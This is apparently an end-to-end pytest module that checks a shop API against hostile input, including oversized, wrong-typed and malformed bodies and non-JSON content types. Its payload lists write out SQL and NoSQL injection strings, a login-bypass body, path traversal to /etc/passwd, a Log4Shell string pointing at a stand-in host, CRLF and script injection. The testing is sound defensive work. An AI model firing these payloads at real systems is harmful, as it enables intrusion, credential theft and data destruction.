"""Hostile input (API4, API8): injection strings in every query parameter,
oversized bodies, bodies of the wrong type or shape, and non-JSON content types.

Never a 500, never data the query did not ask for, never a change from a refused write.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.security.support import (
    PASSWORD,
    Shop,
    Tokens,
    admin_tokens,
    create_product,
    new_user,
    random_email,
)

pytestmark = pytest.mark.e2e

MIB = 1024 * 1024
PRODUCT_KEYS = {
    "id",
    "name",
    "description",
    "price",
    "currency",
    "stock",
    "sku",
    "owner_id",
    "created_at",
    "updated_at",
    "version",
}
USER_KEYS = {"id", "name", "email", "role", "created_at"}
# Already percent-encoded where the raw bytes matter (invalid UTF-8, a lone %).
INJECTIONS = [
    pytest.param(quote("' OR '1'='1"), id="sql-or-true"),
    pytest.param(quote("1; DROP TABLE product; --"), id="sql-drop"),
    pytest.param(quote("1 UNION SELECT email, password_hash FROM account--"), id="sql-union"),
    pytest.param(quote("%' OR name LIKE '%"), id="sql-like-wildcards"),
    pytest.param(quote('{"$gt": ""}'), id="nosql-operator"),
    pytest.param(quote("[$ne]=1"), id="nosql-bracket"),
    pytest.param(quote("../../../../etc/passwd"), id="path-traversal"),
    pytest.param("..%2F..%2F..%2Fetc%2Fpasswd", id="encoded-traversal"),
    pytest.param("%00", id="nul-byte"),
    pytest.param("abc%00def", id="embedded-nul"),
    pytest.param("%ED%A0%80", id="encoded-surrogate"),
    pytest.param("%FF%FE", id="invalid-utf8"),
    pytest.param("%", id="lone-percent"),
    pytest.param("%zz", id="bad-percent-escape"),
    pytest.param(quote("\u202eevil\u202c"), id="bidi-override"),
    pytest.param(quote("ｓｅｌｅｃｔ＊"), id="fullwidth"),
    pytest.param(quote("𝟙𝟘"), id="math-digits"),
    pytest.param(quote("١٠"), id="arabic-digits"),
    pytest.param(quote("1e309"), id="overflowing-number"),
    pytest.param(quote("-1"), id="negative"),
    pytest.param(quote("NaN"), id="nan"),
    pytest.param(quote("Infinity"), id="infinity"),
    pytest.param("9" * 400, id="huge-number"),
    pytest.param("a" * 5000, id="long-string"),
    pytest.param(quote("<script>alert(1)</script>"), id="html"),
    pytest.param(quote("${jndi:ldap://evil.example/a}"), id="log4shell"),
    pytest.param(quote("\r\nX-Injected: 1"), id="crlf"),
]
PRODUCT_PARAMETERS = ["limit", "cursor", "q", "min_price", "max_price", "owner_id", "sort"]


@pytest.fixture(scope="module")
def catalog(shop: Shop) -> Iterator[Tokens]:
    """A few products, including names that hold the payloads' special characters."""
    with shop.client() as client:
        _, tokens = new_user(client)
        for name in ("Plain lamp", "100% cotton", "snake_case mug", "O'Brien chair"):
            create_product(client, tokens, name=name, price=5)
        yield tokens


@pytest.fixture(scope="module")
def admin(shop: Shop) -> Tokens:
    with shop.client() as client:
        return admin_tokens(client)


def items_match_the_filter(parameter: str, value: str, items: list[dict[str, Any]]) -> None:
    """Every item returned is one the filter asked for: nothing extra leaked."""
    for item in items:
        assert set(item) == PRODUCT_KEYS, item
    if parameter == "q":
        text = value.casefold()
        for item in items:
            assert text in item["name"].casefold() or text in item["description"].casefold()
    if parameter == "owner_id":
        assert all(item["owner_id"] == value for item in items)
    if parameter == "limit":
        assert len(items) <= 100


@pytest.mark.parametrize("payload", INJECTIONS)
@pytest.mark.parametrize("parameter", PRODUCT_PARAMETERS)
def test_injection_in_every_product_list_parameter_is_harmless(
    gateway: httpx.Client, catalog: Tokens, parameter: str, payload: str
) -> None:
    response = gateway.get(f"/products?{parameter}={payload}")
    assert response.status_code in (200, 422), response.text
    assert "x-injected" not in response.headers
    body = response.json()
    if response.status_code == 422:
        assert response.headers["content-type"].startswith("application/problem+json")
        assert "Traceback" not in response.text
        return
    assert set(body) == {"items", "next_cursor"}
    sent = httpx.QueryParams(f"{parameter}={payload}").get(parameter)
    items_match_the_filter(parameter, sent or "", body["items"])


@pytest.mark.parametrize(
    "query",
    [
        pytest.param("owner_id[$ne]=x", id="nosql-operator-parameter"),
        pytest.param("q[$regex]=.*", id="regex-operator-parameter"),
        pytest.param("where=1%3D1", id="unknown-where"),
        pytest.param("limit=1&limit=1000", id="repeated-limit"),
        pytest.param("sort=price&sort=password_hash", id="repeated-sort"),
    ],
)
def test_parameter_pollution_on_the_product_list_is_harmless(
    gateway: httpx.Client, catalog: Tokens, query: str
) -> None:
    response = gateway.get(f"/products?{query}")
    assert response.status_code in (200, 422), response.text
    if response.status_code == 200:
        items = response.json()["items"]
        assert len(items) <= 100
        for item in items:
            assert set(item) == PRODUCT_KEYS


def test_like_wildcards_in_q_are_taken_literally(gateway: httpx.Client, catalog: Tokens) -> None:
    for wildcard, expected in (("%", "100% cotton"), ("_", "snake_case mug")):
        items = gateway.get("/products", params={"q": wildcard, "limit": 100}).json()["items"]
        assert items, wildcard
        assert all(wildcard in item["name"] + item["description"] for item in items)
        assert expected in {item["name"] for item in items}


@pytest.mark.parametrize("payload", INJECTIONS)
@pytest.mark.parametrize("parameter", ["limit", "cursor"])
def test_injection_in_every_user_list_parameter_is_harmless(
    gateway: httpx.Client, admin: Tokens, parameter: str, payload: str
) -> None:
    response = gateway.get(f"/auth/users?{parameter}={payload}", headers=admin.headers)
    assert response.status_code in (200, 422), response.text
    if response.status_code == 200:
        body = response.json()
        assert set(body) == {"items", "next_cursor"}
        assert len(body["items"]) <= 100
        for user in body["items"]:
            assert set(user) == USER_KEYS, user
        assert "$2b$" not in response.text


@pytest.mark.parametrize(
    "path",
    [
        "/products/' OR '1'='1",
        "/products/1%20OR%201%3D1",
        "/products/%00",
        "/products/..%2F..%2Fetc%2Fpasswd",
        "/products/" + "9" * 500,
        "/products/00000000-0000-0000-0000-000000000000",
    ],
)
def test_injection_in_the_product_id_is_a_plain_404(gateway: httpx.Client, path: str) -> None:
    raw = gateway.base_url.copy_with(raw_path=path.replace(" ", "%20").encode())
    response = gateway.get(raw)
    assert response.status_code == 404, response.text


def oversized_json() -> bytes:
    return json.dumps({"name": "x" * (MIB + 1), "price": 1}).encode()


def chunks(data: bytes, size: int = 64 * 1024) -> Iterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


@pytest.mark.parametrize("framing", ["content-length", "chunked"])
@pytest.mark.parametrize(
    ("method", "path", "needs_token"),
    [
        pytest.param("POST", "/products", True, id="create-product"),
        pytest.param("POST", "/auth/register", False, id="register"),
        pytest.param("POST", "/auth/login", False, id="login"),
        pytest.param("POST", "/auth/refresh", False, id="refresh"),
    ],
)
def test_oversized_body_is_refused_with_413(
    gateway: httpx.Client, method: str, path: str, needs_token: bool, framing: str
) -> None:
    headers = {"Content-Type": "application/json"}
    if needs_token:
        account, tokens = new_user(gateway)
        headers |= tokens.headers
    body = oversized_json()
    content: bytes | Iterator[bytes] = body if framing == "content-length" else chunks(body)
    response = gateway.request(method, path, headers=headers, content=content)
    assert response.status_code == 413, response.text[:300]
    assert response.headers["content-type"].startswith("application/problem+json")
    if needs_token:
        mine = gateway.get("/products", params={"owner_id": account.id}).json()["items"]
        assert mine == []


def test_a_body_just_under_the_limit_is_read(gateway: httpx.Client) -> None:
    _, tokens = new_user(gateway)
    body = json.dumps({"name": "ok", "price": 1, "pad": "x" * (MIB - 100)}).encode()
    response = gateway.post(
        "/products", headers=tokens.headers | {"Content-Type": "application/json"}, content=body
    )
    assert response.status_code == 422  # read and validated (the unknown field), not 413


REGISTER = {"name": "Mallory", "password": PASSWORD}
WRONG_TYPES = [
    pytest.param("/auth/register", [], id="register-array"),
    pytest.param("/auth/register", "a string", id="register-string"),
    pytest.param("/auth/register", 42, id="register-number"),
    pytest.param("/auth/register", None, id="register-null"),
    pytest.param("/auth/register", {**REGISTER, "email": ["a@example.com"]}, id="email-array"),
    pytest.param("/auth/register", {**REGISTER, "email": {"$ne": ""}}, id="email-object"),
    pytest.param("/auth/register", {**REGISTER, "name": {"first": "M"}}, id="name-object"),
    pytest.param("/auth/register", {**REGISTER, "password": 12345678}, id="password-number"),
    pytest.param("/auth/login", {"email": {"$ne": None}, "password": {"$ne": None}}, id="login-ne"),
    pytest.param(
        "/auth/login", {"email": "admin@example.com", "password": {"$gt": ""}}, id="pw-gt"
    ),
    pytest.param("/auth/login", {"email": ["admin@example.com"], "password": "x"}, id="email-list"),
    pytest.param("/auth/login", [{"email": "a@example.com", "password": "x"}], id="login-array"),
    pytest.param("/auth/refresh", {"refresh_token": {"$ne": ""}}, id="refresh-object"),
    pytest.param("/auth/refresh", {"refresh_token": ["x"]}, id="refresh-array"),
    pytest.param("/auth/refresh", {"refresh_token": 1}, id="refresh-number"),
    pytest.param("/auth/logout", {"refresh_token": None}, id="logout-null"),
    pytest.param("/products", {"name": "x", "price": "19.99"}, id="price-as-string"),
    pytest.param("/products", {"name": "x", "price": 5, "stock": "3"}, id="stock-as-string"),
    pytest.param("/products", {"name": "x", "price": True}, id="price-bool"),
    pytest.param("/products", {"name": "x", "price": {"$gt": 0}}, id="price-object"),
    pytest.param("/products", {"name": ["x"], "price": 5}, id="name-array"),
    pytest.param("/products", {"name": {"en": "x"}, "price": 5}, id="name-object"),
    pytest.param("/products", {"name": "x", "price": 5, "stock": 1.5}, id="stock-fraction"),
    pytest.param("/products", {"name": "x", "price": 5, "sku": 12345}, id="sku-number"),
    pytest.param("/products", {"name": "x", "price": 5, "currency": ["USD"]}, id="currency-array"),
    pytest.param("/products", [{"name": "x", "price": 5}], id="product-array"),
    pytest.param("/products", "x", id="product-string"),
]


@pytest.mark.parametrize(("path", "body"), WRONG_TYPES)
def test_wrong_typed_body_is_refused_with_422(gateway: httpx.Client, path: str, body: Any) -> None:
    account, tokens = new_user(gateway)
    headers = tokens.headers | {"Content-Type": "application/json"}
    response = gateway.post(path, headers=headers, content=json.dumps(body))
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert "access_token" not in response.text
    assert gateway.get("/products", params={"owner_id": account.id}).json()["items"] == []


@pytest.mark.parametrize(
    "body",
    [
        pytest.param({"price": "1"}, id="price-as-string"),
        pytest.param({"stock": "1"}, id="stock-as-string"),
        pytest.param({"name": None}, id="name-null"),
        pytest.param({"price": [1]}, id="price-array"),
        pytest.param([{"price": 1}], id="array"),
    ],
)
def test_wrong_typed_patch_is_refused_and_changes_nothing(gateway: httpx.Client, body: Any) -> None:
    _, tokens = new_user(gateway)
    product = create_product(gateway, tokens)
    url = f"/products/{product['id']}"
    headers = tokens.headers | {"Content-Type": "application/json"}
    response = gateway.patch(url, headers=headers, content=json.dumps(body))
    assert response.status_code == 422, response.text
    assert gateway.get(url).json() == product


@pytest.mark.parametrize(
    "content_type",
    [
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=xyz",
        "application/xml",
        "text/json",
        "application/javascript",
    ],
)
def test_non_json_content_type_is_refused_with_415(
    gateway: httpx.Client, content_type: str
) -> None:
    email = random_email()
    account_body = json.dumps({"name": "Mallory", "email": email, "password": PASSWORD})
    refused = gateway.post(
        "/auth/register", headers={"Content-Type": content_type}, content=account_body
    )
    assert refused.status_code == 415, refused.text
    _, tokens = new_user(gateway)
    create = gateway.post(
        "/products",
        headers=tokens.headers | {"Content-Type": content_type},
        content=b'{"name": "x", "price": 1}',
    )
    assert create.status_code == 415, create.text
    # Nothing was created: the same email registers now.
    retry = gateway.post(
        "/auth/register", json={"name": "Mallory", "email": email, "password": PASSWORD}
    )
    assert retry.status_code == 201, retry.text


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b'{"name": "x", "price": 1', id="truncated"),
        pytest.param(b'{"name": "x", "price": 1}{"a": 1}', id="two-documents"),
        pytest.param(b"\xff\xfe{", id="not-utf8"),
        pytest.param(b'{"name": "x", "price": NaN}', id="nan-literal"),
        pytest.param(b"[" * 100_000 + b"]" * 100_000, id="deep-nesting"),
        pytest.param(b'{"name": "x", "name": "y", "price": 1}', id="duplicate-keys"),
    ],
)
def test_malformed_json_is_refused_without_a_500(gateway: httpx.Client, body: bytes) -> None:
    _, tokens = new_user(gateway)
    response = gateway.post(
        "/products",
        headers=tokens.headers | {"Content-Type": "application/json"},
        content=body,
    )
    assert response.status_code in (400, 422, 201), response.text[:300]
    if response.status_code == 201:  # duplicate keys: the last wins, like every JSON parser
        assert response.json()["name"] == "y"
